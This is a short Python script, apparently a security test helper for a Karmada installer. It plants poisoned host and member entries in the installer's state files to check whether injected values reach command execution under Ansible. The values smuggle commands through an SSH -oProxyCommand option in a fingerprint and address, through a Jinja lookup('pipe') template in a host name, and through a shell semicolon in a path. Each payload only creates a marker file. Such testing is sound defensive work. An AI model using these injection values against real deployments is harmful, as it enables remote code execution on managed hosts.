# SPDX-License-Identifier: Apache-2.0
"""Run on a plain host by its root: writes into the installer's state what would run a command where Ansible runs.

    lie.py KIND MARK

MARK is the file that the command would make. The serial is one that no honest run has reached.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

kind, mark = sys.argv[1:]
folder = Path("/var/lib/karmada-installer/prod")
fingerprint = f"x\"' '-oProxyCommand=/bin/sh -c \"touch {mark}\"' '-oSetEnv=A=\"x"
hosts = {
    "fingerprint": {"name": "evil", "address": "192.0.2.66", "roles": ["etcd"], "hostKeyFingerprint": fingerprint},
    "address": {"name": "evil", "address": f"-oProxyCommand=touch {mark}", "roles": ["etcd"]},
    "name": {"name": f"{{{{ lookup('pipe', 'touch {mark}') }}}}", "address": "192.0.2.66", "roles": ["etcd"]},
}
members = {
    "path": {"address": "192.0.2.66", "port": 22, "path": f"/x; touch {mark}"},
    "member_fingerprint": {"address": "192.0.2.66", "port": 22, "path": "/x", "hostKeyFingerprint": fingerprint},
}
if kind in hosts:
    instance = json.loads((folder / "instance.json").read_text())
    instance["hosts"][hosts[kind]["name"]] = hosts[kind]
    (folder / "instance.json").write_text(json.dumps(instance))
else:
    known = json.loads((folder / "members.json").read_text())
    known["evil"] = {"mode": "Push", "context": None, "onLeave": "Retain", "kubeconfigFrom": members[kind]}
    (folder / "members.json").write_text(json.dumps(known))
(folder / "serial").write_text("999")
